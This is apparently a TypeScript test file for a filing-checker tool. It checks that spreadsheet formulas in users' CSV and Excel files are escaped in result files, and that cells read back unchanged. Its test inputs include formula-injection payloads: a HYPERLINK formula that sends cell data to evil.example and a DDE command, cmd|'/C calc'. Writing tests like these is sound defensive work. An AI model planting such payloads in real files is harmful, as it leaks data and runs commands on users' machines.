import { readFile, rm } from "node:fs/promises";
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { columnsFor, kinds, type Kind } from "../../../src/contract/index.js";
import { openFilingFile } from "../../../src/batch/check/index.js";
import { isFormula } from "../../../src/batch/files/csv/index.js";
import { resultHeaders } from "../../../src/batch/files/common/result-columns.js";
import { openTableSource } from "../../../src/batch/files/table-file.js";
import { writeRoundTrip } from "../../../src/batch/results/round-trip.js";
import { delimiters, encoded, encodings, written } from "../../support/generated-tables.js";
import { textRows, writeWorkbook } from "../../support/workbook-file.js";
import { TODAY, rowOf } from "../check/check-helpers.js";
import { temporaryFolder } from "../files/csv/temporary-files.js";

// A cell of the user's own file must not run when its result file is opened, and must be read as it was.

const folder = temporaryFolder();
afterAll(() => rm(folder.path("."), { recursive: true, force: true }));

const RESULTS = resultHeaders().map(() => "=1+1");

/** Texts that a spreadsheet runs, that look escaped, or that only begin like a formula. */
const TEXTS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1,"详情")',
  "=cmd|'/C calc'!A0",
  "@SUM(A1:A9)",
  "+86 13800001111",
  "-5",
  "-2+3",
  "\t=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  "'=1+1",
  "''=1+1",
  "'＝1",
  "''",
  "'",
  "'abc",
  "'330106199001010018",
  '="330106199001010018"',
  "-",
  "a=1",
] as const;

async function cellsOf(path: string, options = {}): Promise<(readonly string[])[]> {
  const rows: (readonly string[])[] = [];
  for await (const batch of (await openTableSource(path, options)).records())
    for (const record of batch) rows.push(record.cells);
  return rows;
}

/** What the checker makes of a file: its filings and findings, row by row. */
async function outcome(path: string, kind: Kind, fastPath: boolean) {
  const file = await openFilingFile(path, { kind, today: TODAY, fastPath });
  const rows = [];
  for await (const chunk of file.rows()) rows.push(...chunk);
  return JSON.parse(JSON.stringify(rows.map((row) => ({ ...row, keys: undefined })))) as unknown;
}

/** Filings that are valid but for one text, in every text column and in a column that is not read. */
function rowsWithTexts(kind: Kind): string[][] {
  const columns = columnsFor(kind);
  const good = columns.map(({ key }) => rowOf(kind)[key] ?? "");
  const rows = [[...columns.map((c) => c.zh), "-备注"]];
  for (const [at, { cell, key }] of columns.entries()) {
    if (cell !== "text" && key !== "ref") continue;
    for (const text of TEXTS) rows.push([...good.with(0, `F-${rows.length}`).with(at, text), text]);
  }
  return rows;
}

describe("formulas in a result file", () => {
  it.each(kinds)("do not run, and are read as in the original: %s", async (kind) => {
    const rows = rowsWithTexts(kind);
    for (const encoding of ["utf-8-bom", "gb18030"] as const) {
      const shape = { delimiter: ",", newline: "\r\n", endsWithNewline: true, quoteAll: false } as const;
      const path = await folder.file("in.csv", written({ rows, encoding, ...shape }));
      const layout = (await openFilingFile(path, { kind, today: TODAY })).layout;
      const [out, again] = [folder.path("out.csv"), folder.path("again.csv")];
      const results = () => ({ cells: RESULTS });
      await writeRoundTrip(path, layout, out, results);
      expect((await cellsOf(out)).flat().filter(isFormula)).toEqual([]);
      for (const fastPath of [true, false])
        expect(await outcome(out, kind, fastPath)).toEqual(await outcome(path, kind, fastPath));
      await writeRoundTrip(out, (await openFilingFile(out, { kind, today: TODAY })).layout, again, results);
      expect(await readFile(again, "utf8")).toBe(await readFile(out, "utf8"));
    }
  });

  it("are text in a workbook, and read as in the original", async () => {
    const kind = "mortgage.file";
    const path = await writeWorkbook(folder.path("in.xlsx"), { rows: textRows(rowsWithTexts(kind)) });
    const { layout } = await openFilingFile(path, { kind, today: TODAY });
    const out = folder.path("out.xlsx");
    await writeRoundTrip(path, layout, out, () => ({ cells: RESULTS }));
    expect((await cellsOf(out)).map((row) => row.slice(0, -RESULTS.length))).toEqual(await cellsOf(path));
    for await (const batch of (await openTableSource(out)).records())
      for (const record of batch) expect(record.notes?.formulas ?? []).toEqual([]);
    expect(await outcome(out, kind, true)).toEqual(await outcome(path, kind, true));
  });

  it("run in no cell of any table, whatever its format, and every cell is read as it was", async () => {
    const cell = fc
      .array(fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r\n", "＝", "－", "1", "a", "张", '"', ",", ";"), {
        maxLength: 4,
      })
      .map((parts) => parts.join(""));
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 6 }),
        fc.constantFrom(...encodings),
        fc.constantFrom(...delimiters),
        fc.boolean(),
        async (body, encoding, delimiter, quoteAll) => {
          const rows = [["编号", "=备注", "a", "b"], ...body];
          const given = { rows, encoding, delimiter, newline: "\r\n", endsWithNewline: true, quoteAll } as const;
          const path = await folder.file("any.csv", written(given));
          const layout = { headerRow: 1, encoding, delimiter } as Parameters<typeof writeRoundTrip>[1];
          await writeRoundTrip(path, layout, folder.path("any.out.csv"), () => ({ cells: RESULTS }));
          const options = { encoding, delimiter };
          expect((await cellsOf(folder.path("any.out.csv"), options)).flat().filter(isFormula)).toEqual([]);
          const readBack = await cellsOf(folder.path("any.out.csv"), { ...options, escaped: true });
          expect(readBack.map((row, at) => row.slice(0, rows[at]!.length))).toEqual(await cellsOf(path, options));
        },
      ),
      { numRuns: 80 },
    );
  }, 60_000);

  it("that a person types into a result file are read as typed and escaped in the next one", async () => {
    const text = `编号,备注,${resultHeaders().join(",")}\r\n1,=1+1,已登簿,,,,,,,,\r\n2,'=2,,,,,,,,,\r\n`;
    const path = await folder.file("typed.csv", encoded(text, "utf-8"));
    await writeRoundTrip(path, { headerRow: 1 } as never, folder.path("typed.out.csv"), () => undefined);
    expect(await readFile(folder.path("typed.out.csv"), "utf8")).toContain("1,'=1+1");
    expect(await readFile(folder.path("typed.out.csv"), "utf8")).toContain("2,'=2");
    const [, typed, kept] = await cellsOf(path, { escaped: true });
    expect([typed![1], kept![1]]).toEqual(["=1+1", "=2"]);
  });
});
